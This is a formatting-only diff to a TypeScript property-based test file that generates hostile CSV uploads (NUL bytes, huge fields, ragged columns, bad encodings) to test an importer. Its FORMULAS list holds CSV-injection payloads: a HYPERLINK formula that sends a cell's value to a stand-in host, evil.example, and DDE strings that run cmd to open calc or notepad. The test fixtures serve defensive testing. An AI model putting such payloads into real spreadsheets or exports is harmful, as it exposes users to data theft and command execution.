@@ -27,7 +27,14 @@ export const HOSTILE_DATASET = {
     { name: 'joined', type: 'date', required: false },
   ],
   dedupe: { keys: [['email']], policy: 'most_complete' },
-  metrics: { dateField: 'joined', dimensions: ['name'], metrics: [{ name: 'rows', op: 'count' }, { name: 'total', op: 'sum', field: 'amount' }] },
+  metrics: {
+    dateField: 'joined',
+    dimensions: ['name'],
+    metrics: [
+      { name: 'rows', op: 'count' },
+      { name: 'total', op: 'sum', field: 'amount' },
+    ],
+  },
 };
 
 const HEADER = 'email,name,amount,joined';
@@ -39,7 +46,22 @@ const rows = (count: number, from = 0) => Array.from({ length: count }, (_, i) =
 const PAST_SNIFF = rows(200).join('\n');
 
 // Cell values an attacker would try: spreadsheet formulas and DDE payloads (plain numbers must stay as they are).
-const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=cmd|" /C calc"!A0', '\r=1', '=cmd|\'/c notepad\'!A1', '-4.5', '+12', '=-1', '@', '=', "'=already"];
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=cmd|" /C calc"!A0',
+  '\r=1',
+  "=cmd|'/c notepad'!A1",
+  '-4.5',
+  '+12',
+  '=-1',
+  '@',
+  '=',
+  "'=already",
+];
 const LINE_ENDINGS = ['\n', '\r\n', '\r', '\n\r'];
 const INVALID_UTF8 = [
   [0x63, 0x61, 0x66, 0xe9], // Latin-1 "café"
@@ -72,7 +94,14 @@ const KINDS: { kind: string; count: number; file: fc.Arbitrary<Omit<HostileFile,
     count: 10,
     file: fc.tuple(fc.nat(3), fc.constantFrom('email', 'name', 'amount', 'extra')).map(([variant, where]) => {
       const cell = ['\u0000', 'a\u0000b', '\u0000\u0000\u0000', 'x'.repeat(20) + '\u0000'][variant];
-      const bad = where === 'email' ? `${cell}@example.com,N,1,2026-01-01` : where === 'name' ? `nul@example.com,${cell},1,2026-01-01` : where === 'amount' ? `nul@example.com,N,${cell},2026-01-01` : `nul@example.com,N,1,2026-01-01,${cell}`;
+      const bad =
+        where === 'email'
+          ? `${cell}@example.com,N,1,2026-01-01`
+          : where === 'name'
+            ? `nul@example.com,${cell},1,2026-01-01`
+            : where === 'amount'
+              ? `nul@example.com,N,${cell},2026-01-01`
+              : `nul@example.com,N,1,2026-01-01,${cell}`;
       return { content: text(`${HEADER}${where === 'extra' ? ',extra' : ''}\n${PAST_SNIFF}\n${bad}\n${row(999)}\n`) };
     }),
   },
@@ -113,7 +142,8 @@ const KINDS: { kind: string; count: number; file: fc.Arbitrary<Omit<HostileFile,
     count: 6,
     file: fc.tuple(fc.integer({ min: 5, max: 6 }), fc.boolean(), fc.constantFrom('name', 'extra', 'amount')).map(([megabytes, quoted, where]) => {
       const value = quoted ? `"${'long, "" value\n'.repeat(Math.ceil((megabytes * MB) / 16))}"` : 'L'.repeat(megabytes * MB);
-      const line = where === 'name' ? `long@example.com,${value},1,2026-01-02` : where === 'amount' ? `long@example.com,N,${value},2026-01-02` : `long@example.com,N,1,2026-01-02,${value}`;
+      const line =
+        where === 'name' ? `long@example.com,${value},1,2026-01-02` : where === 'amount' ? `long@example.com,N,${value},2026-01-02` : `long@example.com,N,1,2026-01-02,${value}`;
       const pad = where === 'extra' ? ',' : '';
       return { content: text(`${HEADER}${where === 'extra' ? ',notes' : ''}\n${row(1)}${pad}\n${line}\n${row(2)}${pad}\n`), heavy: true, keeps: 2 };
     }),
@@ -198,9 +228,14 @@ const KINDS: { kind: string; count: number; file: fc.Arbitrary<Omit<HostileFile,
   {
     kind: 'ragged-columns',
     count: 15,
-    file: fc.tuple(fc.constantFrom('email,name,amount,joined,EMAIL,Email', 'email,,,joined,', 'email,name,name,name', 'email', ',,,,'), fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 5, maxLength: 20 })).map(([header, widths]) => ({
-      content: text(`${header}\n${widths.map((width, i) => [`r${i}@example.com`, ...Array.from({ length: width }, (_, c) => `v${c}`)].join(',')).join('\n')}\n`),
-    })),
+    file: fc
+      .tuple(
+        fc.constantFrom('email,name,amount,joined,EMAIL,Email', 'email,,,joined,', 'email,name,name,name', 'email', ',,,,'),
+        fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 5, maxLength: 20 }),
+      )
+      .map(([header, widths]) => ({
+        content: text(`${header}\n${widths.map((width, i) => [`r${i}@example.com`, ...Array.from({ length: width }, (_, c) => `v${c}`)].join(',')).join('\n')}\n`),
+      })),
   },
 ];
 
